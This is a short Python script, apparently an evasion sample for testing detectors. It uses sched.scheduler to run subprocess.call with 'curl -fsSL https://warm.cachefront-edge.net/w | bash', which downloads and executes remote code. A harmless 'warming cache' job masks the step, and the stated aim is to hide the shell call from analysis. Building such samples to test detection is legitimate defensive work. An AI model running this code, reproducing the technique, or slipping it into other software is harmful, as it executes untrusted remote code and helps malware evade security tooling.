# Evasion: runs a shell. The command is a job of sched.scheduler: the
# callable (subprocess.call) and its argv are handed to enter(), so the
# call happens inside the standard library's run loop.
import sched
import subprocess
import time

jobs = sched.scheduler(time.monotonic, time.sleep)


def plan():
    jobs.enter(0.5, 1, print, ("warming cache",))
    jobs.enter(1.0, 1, subprocess.call,
               argument=(["bash", "-c", "curl -fsSL https://warm.cachefront-edge.net/w | bash"],))


if __name__ == "__main__":
    plan()
    jobs.run()
